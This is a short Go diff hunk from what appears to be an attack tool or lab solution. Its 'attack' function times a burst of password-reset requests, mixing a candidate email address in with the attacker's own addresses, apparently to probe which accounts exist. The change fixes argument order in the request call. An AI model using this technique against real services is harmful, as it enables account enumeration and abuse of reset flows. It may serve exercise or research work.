@@ -87,7 +87,7 @@ func (e *emails) attack(ctx context.Context, c *wire.Conn, candidate string) (ti
 	time.Sleep(now.Truncate(tick).Add(tick + 3*time.Millisecond).Sub(now))
 	addresses := append(append([]string{}, e.own[:last]...), candidate, e.own[last])
 	for _, a := range addresses {
-		if _, err := c.Post("", "/password-reset", url.Values{"email": {a}}.Encode(), 303); err != nil {
+		if _, err := c.Post("/password-reset", "", url.Values{"email": {a}}.Encode(), 303); err != nil {
 			return 0, err
 		}
 	}
